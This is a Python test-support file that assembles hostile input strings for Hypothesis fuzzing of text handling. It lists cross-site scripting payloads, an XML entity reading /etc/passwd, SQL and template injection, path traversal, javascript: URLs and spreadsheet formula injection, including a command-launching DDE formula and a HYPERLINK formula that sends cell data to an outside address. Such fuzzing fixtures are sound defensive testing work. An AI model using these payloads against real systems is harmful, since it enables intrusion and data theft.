"""Texts that somebody writes to do harm, among any others."""

from hypothesis import strategies as st

#: What would be markup, code, a formula or a place to go, if anything took it for more than text.
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</style></svg></title></textarea><b>",
    "<!-- ]]> -->",
    "<![CDATA[<b>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "&lt;b&gt; &#60;b&#62; &amp;amp;",
    '#set page(width: 1pt); #read("/etc/passwd") #import "x.typ": *',
    "{{ 7 * 7 }} {% raw %} {# no #} ${1} #{1}",
    "$ x $ `y` ```z``` *b* _i_ ~s~ @goal <label> // /* \\ \\u{41} = - +",
    "'+alert(1)+' \"+alert(1)+\" \\' datum.x",
    "%s {0} {name} %(x)s %n",
    "'; DROP TABLE goals; --",
    "[a](javascript:alert(1)) ![b](http://example.org/x.png)",
    "../../etc/passwd",
)

#: Addresses that lead to no page on the web.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
    "//example.org/x",
    "https://example.org@evil.example/\"onclick='alert(1)'",
)

#: What a spreadsheet would compute.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.b?x="&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "＝SUM(A1)",
)

#: Scripts that run the other way, and signs that no font here has.
SCRIPTS = "\U0001f600 \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u0e01 \U0001f468"

#: One word that no line holds.
UNBROKEN = ("x" * 3_000, "https://example.org/" + "a" * 500, "字" * 1_000)

_PARTS = [
    "=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "\t", "\r", "\n", ";", ",", '"', "'", " ", "\u3000",
    "\0", "\x1b", "\ufffe", "\ud800", "_x003D_", "1+1", "<b>", "&", "#N/A", "😀", "\u202e", "-1", "中",
    *MARKUP, *ADDRESSES, *FORMULAS,
]  # fmt: skip

HOSTILE = st.lists(st.sampled_from(_PARTS) | st.text(max_size=3), max_size=8).map("".join)
